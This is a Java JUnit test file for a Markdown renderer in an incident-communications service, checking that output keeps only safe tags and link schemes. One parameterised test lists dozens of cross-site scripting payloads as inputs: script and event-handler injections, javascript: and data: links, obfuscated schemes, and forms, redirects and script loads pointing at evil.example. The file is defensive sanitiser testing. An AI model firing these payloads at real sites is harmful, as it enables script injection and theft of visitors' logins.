package org.incidentcomms.service.markdown;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import java.util.Locale;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Link;
import org.commonmark.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {
    private static final Pattern TAG = Pattern.compile("<(/?)([A-Za-z][A-Za-z0-9]*)([^>]*)>");
    private static final String LINK = "<a href=\"https://e.x\" rel=\"nofollow noopener noreferrer\">";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt\n>alert(1)</sCrIpT >",
                "text <script src=//evil.example/x.js></script> text",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext></p><style><img src=x onerror=alert(1)>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<form action=//evil.example><input name=password></form>",
                "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<base href=//evil.example>",
                "<!--<script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?><!DOCTYPE html><b onclick=alert(1)>",
                "[a](javascript:alert(1))",
                "[a](JaVaScRiPt:alert(1))",
                "[a](<java\tscript:alert(1)>)",
                "[a](&#106;&#97;vascript:alert(1))",
                "[a](java&Tab;script:alert(1))",
                "[a](&#x00000A;javascript:alert(1))",
                "[a]( \u0001javascript:alert(1))",
                "[a](vbscript:msgbox(1))",
                "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[a](blob:https://e.x/1)",
                "[a](file:///etc/passwd)",
                "[a](//evil.example/)",
                "[a](/\\evil.example/)",
                "[a](https:javascript:alert(1))",
                "<javascript:alert(1)>",
                "<data:text/html,x>",
                "[a]: javascript:alert(1)\n\n[a]",
                "![x](javascript:alert(1))",
                "![x\" onerror=\"alert(1)](https://e.x/y.png)",
                "[x](https://e.x/ \"onmouseover=alert(1)\")",
                "[a](https://e.x/\"onmouseover=alert(1)//)",
                "[a](https://e.x/'><script>alert(1)</script>)",
                "[<script>alert(1)</script>](https://e.x/)",
                "[![x](https://e.x/\"onerror=alert(1))](javascript:alert(1))",
                "[[[a](javascript:alert(1))](https://e.x)](data:x)",
                "https://e.x/\"onmouseover=alert(1)",
                "https://e.x/<script>alert(1)</script>",
                "```\"><script>alert(1)</script>\nx\n```",
                "`<script>alert(1)</script>`",
                "    <script>alert(1)</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "\\<script>alert(1)\\</script>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
                "> <script>\n> alert(1)\n> </script>",
                "- <img\n  src=x\n  onerror=alert(1)>",
                "{{constructor.constructor('alert(1)')()}} ${7*7} {% raw %}"
            })
    void nothingRunsWhateverIsWritten(String markdown) {
        String html = Markdown.toHtmlBelow(1, markdown);

        assertThat(html).doesNotContain("{{");
        assertThat(html.replace("<!-- -->", "").replaceAll(TAG.pattern(), ""))
                .as("every < that is left begins a tag of ours: %s", html)
                .doesNotContain("<");
        assertThat(TAG.matcher(html).results()).as(html).allSatisfy(tag -> {
            assertThat(tag.group(2))
                    .isIn("p", "br", "strong", "em", "ul", "ol", "li", "a", "code", "pre", "blockquote", "hr");
            assertThat(tag.group(3)).satisfies(attributes -> onlySafeAttributes(tag, attributes));
        });
        String again = Markdown.toMarkdownBelow(1, markdown);
        assertThat(again).doesNotContain("{{", "{%", "{#");
        Parser.builder().build().parse(again).accept(new AbstractVisitor() {
            @Override
            public void visit(HtmlInline html) {
                fail("raw HTML in: " + again);
            }

            @Override
            public void visit(HtmlBlock html) {
                fail("raw HTML in: " + again);
            }

            @Override
            public void visit(Link link) {
                assertThat(link.getDestination().toLowerCase(Locale.ROOT)).matches("(https?://|mailto:).*");
            }
        });
    }

    @Test
    void markdownIsWrittenAgainForRenderersThatAreNotOurs() {
        assertThat(Markdown.toMarkdownBelow(2, "# A *b*\n<b>c</b>\n\n- d\n\n```\n{{ e }}"))
                .isEqualTo("### A *b*\n\n\\<b\\>c\\</b\\>\n\n- d\n\n```\n{ { e }}\n```");
        assertThat(Markdown.escape(" # a *b*\n[c](d) <e> ")).isEqualTo("\\# a \\*b\\* \\[c\\](d) \\<e\\>");
    }

    private static void onlySafeAttributes(MatchResult tag, String attributes) {
        if (tag.group(2).equals("a") && tag.group(1).isEmpty()) {
            assertThat(attributes.toLowerCase(Locale.ROOT))
                    .matches(" href=\"(https?://|mailto:)[^\"<>]*\" rel=\"nofollow noopener noreferrer\"");
        } else {
            assertThat(attributes.strip()).isIn("", "/");
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "1 | # One                 | 2",
                "1 | ## Two^#### Four^## Two | 2 3 2",
                "1 | ###### Six^# One^#### Four | 2 2 3",
                "3 | # One^## Two^### Three^#### Four | 4 5 6 6",
                "2 | > #### Four^- ###### Six^# One | 3 4 3",
                "6 | # One^###### Six | 6 6",
                "1 | ####### Seven | ''",
                "1 | `<h1>` | ''"
            })
    void headingsStandBelowTheGivenLevelAndLeaveNoneOut(int level, String lines, String levels) {
        String html = Markdown.toHtmlBelow(level, lines.replace("^", "\n\n"));

        assertThat(Pattern.compile("<h([1-6])>")
                        .matcher(html)
                        .results()
                        .map(heading -> heading.group(1))
                        .collect(Collectors.joining(" ")))
                .isEqualTo(levels);
    }

    @Test
    void rawHtmlIsShownAsText() {
        assertThat(Markdown.toHtmlBelow(1, "<b>bold</b> & <script>x</script>"))
                .isEqualTo("<p>&lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;x&lt;/script&gt;</p>\n");
        assertThat(Markdown.toText("<b>bold</b> & <script>x</script>")).isEqualTo("<b>bold</b> & <script>x</script>");
    }

    @Test
    void whatMarkdownIsForComesThrough() {
        assertThat(Markdown.toHtmlBelow(
                        1, "## What happened\n\nIt was **slow** and _we_ know `why`.\n\n- one\n- two\n\n5. five"))
                .isEqualTo("""
                        <h2>What happened</h2>
                        <p>It was <strong>slow</strong> and <em>we</em> know <code>why</code>.</p>
                        <ul><li>one</li><li>two</li></ul>
                        <ol start="5"><li>five</li></ol>
                        """);
    }

    @Test
    void linksAndBareAddressesLeadOutSafely() {
        assertThat(Markdown.toHtmlBelow(1, "[a](https://e.x)")).isEqualTo("<p>" + LINK + "a</a></p>\n");
        assertThat(Markdown.toHtmlBelow(1, "https://e.x")).isEqualTo("<p>" + LINK + "https://e.x</a></p>\n");
        assertThat(Markdown.toHtmlBelow(1, "[](https://e.x)")).isEqualTo("<p>" + LINK + "https://e.x</a></p>\n");
    }

    @Test
    void aLinkThatLeadsNowhereIsItsText() {
        assertThat(Markdown.toHtmlBelow(1, "[a](/status) [b](#top) [c](ftp://e.x)"))
                .isEqualTo("<p>a b c</p>\n");
        assertThat(Markdown.toText("[a](/status) [b](#top) [c](ftp://e.x)")).isEqualTo("a b c");
    }

    @Test
    void anImageIsALinkToIt() {
        assertThat(Markdown.toHtmlBelow(1, "![chart](https://e.x)")).isEqualTo("<p>" + LINK + "chart</a></p>\n");
        assertThat(Markdown.toHtmlBelow(1, "[![chart](https://e.x/c.png)](https://e.x)"))
                .isEqualTo("<p>" + LINK + "chart</a></p>\n");
        assertThat(Markdown.toText("![chart](https://e.x/c.png)")).isEqualTo("chart (https://e.x/c.png)");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "[ClickTime](https://www.clicktime.com) | ClickTime (https://www.clicktime.com)",
                "https://www.clicktime.com | https://www.clicktime.com",
                "<https://www.clicktime.com> | https://www.clicktime.com",
                "[https://www.clicktime.com](https://www.clicktime.com) | https://www.clicktime.com",
                "www.clicktime.com | www.clicktime.com",
                "help@e.x | help@e.x",
                "[our support](mailto:help@e.x) | our support (help@e.x)",
                "[**bold**](https://e.x) | bold (https://e.x)",
                "[](https://e.x) | https://e.x"
            })
    void inTextAnAddressIsWrittenOutOnce(String markdown, String text) {
        assertThat(Markdown.toText(markdown)).isEqualTo(text);
    }

    @Test
    void textIsWrittenAsPeopleWriteMail() {
        assertThat(Markdown.toText("""
                        ## What we have done

                        We have made **two** changes
                        to `session.store`:\\
                        both are out.

                        - lighter hand-over
                        - fewer retries
                          - for log-in
                          - for saving

                        3. three

                        4. four

                           still four

                        > Is it over?
                        >
                        > Yes.

                        ```sh
                        restart --all

                          --now
                        ```

                        ***
                        -Alex Mann
                        """)).isEqualTo("""
                        What we have done

                        We have made two changes
                        to session.store:
                        both are out.

                        - lighter hand-over
                        - fewer retries
                          - for log-in
                          - for saving

                        3. three

                        4. four

                           still four

                        > Is it over?
                        >
                        > Yes.

                            restart --all

                              --now

                        ---

                        -Alex Mann""");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "\n\n", "[a]: https://e.x", "![](/x)"})
    void nothingSaidIsNothingWritten(String markdown) {
        assertThat(Markdown.toText(markdown)).isEmpty();
    }
}
